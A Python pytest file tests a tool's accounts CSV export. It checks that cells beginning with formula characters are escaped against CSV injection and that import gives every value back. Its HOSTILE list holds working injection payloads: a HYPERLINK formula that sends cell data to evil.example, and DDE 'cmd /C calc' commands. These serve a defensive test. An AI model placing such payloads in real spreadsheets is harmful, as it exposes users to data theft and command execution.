"""The accounts spreadsheet never carries a live formula, and gives every value back on import.

A cell a spreadsheet would evaluate (``=HYPERLINK(...)``, ``+cmd|...``, ``@SUM(...)``, a leading
tab or line break) is written with a leading ``'`` (OWASP, "CSV injection"); the import takes
that ``'`` off again, so export then import is exact; a plain ``@handle`` or ``+34`` phone is
written as it is.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from smgov_tui.cli import main
from smgov_tui.core import kinds as k
from smgov_tui.core.escape import csv_safe, csv_unquote
from smgov_tui.export.accounts_csv import COLUMNS, accounts_to_csv
from smgov_tui.store.importer import import_accounts
from smgov_tui.store.store import Store
from tests.helpers.git import git

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted by hand",
    "''=twice",
    "-",
    "@",
    "+",
]
ORDINARY = [
    "@tienda_sur",
    "@ana.ruiz",
    "@ana@mastodon.social",
    "+34 600 123 456",
    "+1 (555) 010-0199",
    "-5",
    "'quoted' in the text",
    "Plain text = fine, +1 too",
]
FREE_TEXT = ("handle", "department", "purpose", "posting_frequency", "notes")


def cells_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def set_fields(store: Store, account_id: str, **values: str) -> None:
    entry = store.data.entry(k.ACCOUNTS, account_id)
    assert entry is not None
    result = store.save(k.ACCOUNTS, account_id, {**entry.raw, **values}, entry.text)
    assert result.committed, result.message


def spread(store: Store, values: list[str]) -> dict[str, dict[str, str]]:
    """Put ``values`` in the free-text fields of the accounts, one value per field."""
    wanted: dict[str, dict[str, str]] = {}
    ids = sorted(store.data.accounts)
    for index, value in enumerate(values):
        aid = ids[index // len(FREE_TEXT)]
        field = FREE_TEXT[index % len(FREE_TEXT)]
        wanted.setdefault(aid, {})[field] = value
    for aid, fields in wanted.items():
        set_fields(store, aid, **fields)
    return wanted


# --- the rule ---------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_is_quoted(value: str) -> None:
    assert csv_safe(value) == "'" + value
    assert csv_unquote(csv_safe(value)) == value


@pytest.mark.parametrize("value", ORDINARY)
def test_an_ordinary_value_is_written_as_it_is(value: str) -> None:
    assert csv_safe(value) == value
    assert csv_unquote(value) == value


@given(st.text())
def test_quoting_is_reversed_exactly(value: str) -> None:
    written = csv_safe(value)
    assert csv_unquote(written) == value
    assert not written.startswith(("=", "+", "-", "@", "\t", "\r")) or written == value


# --- export and import ------------------------------------------------------------------------


def test_export_quotes_every_hostile_cell_and_no_ordinary_one(store: Store) -> None:
    wanted = spread(store, HOSTILE + ORDINARY)
    rows = {row["id"]: row for row in cells_of(accounts_to_csv(store.data))}
    for aid, fields in wanted.items():
        for field, value in fields.items():
            written = rows[aid][field]
            if value in HOSTILE:
                assert written == "'" + value, (aid, field)
            else:
                assert written == value, (aid, field)
    for row in rows.values():
        for name in COLUMNS:
            cell = row[name]
            if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")):
                assert re.fullmatch(r"@\w[\w.\-@]*|[+-][0-9 ().\-/]+", cell), cell


def test_export_then_import_into_another_copy_is_exact(
    store: Store, ws: Path, tmp_path: Path
) -> None:
    other_root = tmp_path / "other"
    shutil.copytree(ws, other_root)
    wanted = spread(store, HOSTILE + ORDINARY)
    sheet = tmp_path / "accounts.csv"
    result = CliRunner().invoke(main, ["export", "accounts", str(store.root), "-o", str(sheet)])
    assert result.exit_code == 0, result.output
    other = Store.open(other_root)
    other.load()
    result = CliRunner().invoke(main, ["import", "accounts", str(sheet), str(other_root)])
    assert result.exit_code == 0, result.output
    other.load()
    for aid, fields in wanted.items():
        account = other.data.accounts[aid]
        for field, value in fields.items():
            assert getattr(account, field) == value, (aid, field)
    assert other.data.accounts == store.data.accounts


def test_import_of_its_own_export_changes_nothing(store: Store, tmp_path: Path) -> None:
    spread(store, HOSTILE + ORDINARY)
    head = git(store.root, "rev-parse", "HEAD")
    done = import_accounts(store, accounts_to_csv(store.data), "accounts.csv")
    assert not done.result.committed and done.created == [] and done.updated == []
    assert git(store.root, "rev-parse", "HEAD") == head


def test_a_quote_typed_in_a_spreadsheet_before_a_formula_is_taken_off(store: Store) -> None:
    """A person may quote a cell by hand, as a spreadsheet teaches: that is text, not a '."""
    text = accounts_to_csv(store.data)
    rows = cells_of(text)
    rows[0]["notes"] = "'=see the pinned post"
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    import_accounts(store, out.getvalue(), "accounts.csv")
    store.load()
    assert store.data.accounts[rows[0]["id"]].notes == "=see the pinned post"
